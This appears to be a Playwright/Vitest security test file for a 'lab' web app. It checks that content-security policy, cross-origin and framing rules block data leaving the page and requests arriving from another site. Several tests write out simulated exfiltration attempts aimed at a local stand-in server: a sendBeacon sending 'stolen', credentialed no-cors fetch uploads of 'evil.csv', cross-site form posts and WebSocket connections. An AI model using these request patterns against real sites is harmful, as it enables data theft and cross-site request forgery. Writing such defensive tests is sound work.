import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { inBrowser, useLab } from './harness/use-lab';

/** The ways out of the lab's page, and the ways into the lab from another site: a real browser tries them (see also doors). */
const used = useLab();
let foreign: Server;
let foreignAddress: string;
let requests: { method: string; url: string }[];

beforeAll(async () => {
  requests = [];
  foreign = createServer((request, response) => {
    requests.push({ method: request.method ?? '', url: request.url ?? '' });
    response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
    response.end('<!doctype html><title>Another site</title><p>another site</p>');
  });
  await new Promise<void>((listening) => foreign.listen(0, '127.0.0.1', listening));
  foreignAddress = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  await used.page.getByRole('main').waitFor();
});

afterAll(() => new Promise((closed) => foreign.close(closed)));

test('the page opens no window', async () => {
  const pages = used.page.context().pages().length;
  expect(await used.page.evaluate((address) => window.open(address) === null, `${foreignAddress}/opened`)).toBe(true);
  expect(used.page.context().pages()).toHaveLength(pages);
  expect(requests).toEqual([]);
});

test.each(['form-action', 'connect-src'])(
  'the page sends nothing to another site: refused by %s',
  async (directive) => {
    const address = used.page.url();
    const refusedBy = await used.page.evaluate(
      ([means, target]) =>
        new Promise<string>((done) => {
          document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), {
            once: true,
          });
          if (means === 'connect-src') {
            navigator.sendBeacon(`${target}/beacon`, 'stolen');
            return;
          }
          const form = document.createElement('form');
          form.method = 'post';
          form.action = `${target}/form`;
          document.body.append(form);
          form.submit();
          form.remove();
        }),
      [directive, foreignAddress] as const,
    );
    expect(refusedBy).toBe(directive);
    expect(used.page.url()).toBe(address);
    expect(requests).toEqual([]);
  },
);

describe.runIf(inBrowser)('from a page of another site in the same browser', () => {
  let page: Page;
  beforeAll(async () => {
    page = await used.page.context().newPage();
    await page.goto(foreignAddress);
  });
  afterAll(() => page.close());

  test.each(['lab', 'lab?token=0123456789abcdef0123456789abcdef', ''])('no WebSocket to "/%s"', async (path) => {
    const ended = await page.evaluate(
      (address) =>
        new Promise<string>((done) => {
          const socket = new WebSocket(address);
          socket.onopen = () => done('open');
          socket.onmessage = () => done('message');
          socket.onerror = () => done('refused');
        }),
      `${used.lab.url.replace('http', 'ws')}${path}`,
    );
    expect(ended).toBe('refused');
  });

  test('no upload by fetch, not even without asking for the answer', async () => {
    const answer = await page.evaluate(
      (address) =>
        fetch(address, { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'stolen' }).then(
          (got) => got.type,
          () => 'refused',
        ),
      `${used.lab.url}upload?name=evil.csv`,
    );
    expect(answer).toBe('refused');
  });

  test('no form post, and no page of the lab for its sender', async () => {
    const [answer] = await Promise.all([
      page.waitForNavigation(),
      page.evaluate((address) => {
        const form = document.createElement('form');
        form.method = 'post';
        form.action = address;
        document.body.append(form);
        form.submit();
      }, `${used.lab.url}upload?name=form.csv`),
    ]);
    expect([401, 403, 405]).toContain(answer?.status());
    await page.goto(foreignAddress);
  });

  test('no frame with the lab in it', async () => {
    await page.evaluate((address) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
    }, used.lab.url);
    await page.locator('iframe').waitFor();
    const inside = page.frameLocator('iframe').locator('#app');
    await page.waitForFunction(() => document.querySelector('iframe')?.contentDocument === null);
    expect(await inside.count()).toBe(0);
  });
});

describe.runIf(!inBrowser)('of the Electron door', () => {
  test('a frame of another origin gets no bridge', async () => {
    const bridge = await used.page.evaluate(
      (address) =>
        new Promise<string>((done) => {
          const frame = document.createElement('iframe');
          frame.onload = () => done(frame.contentDocument === null ? 'blocked' : 'loaded');
          frame.src = address;
          document.body.append(frame);
        }),
      foreignAddress,
    );
    expect(bridge).toBe('blocked');
    expect(requests).toEqual([]);
  });
});
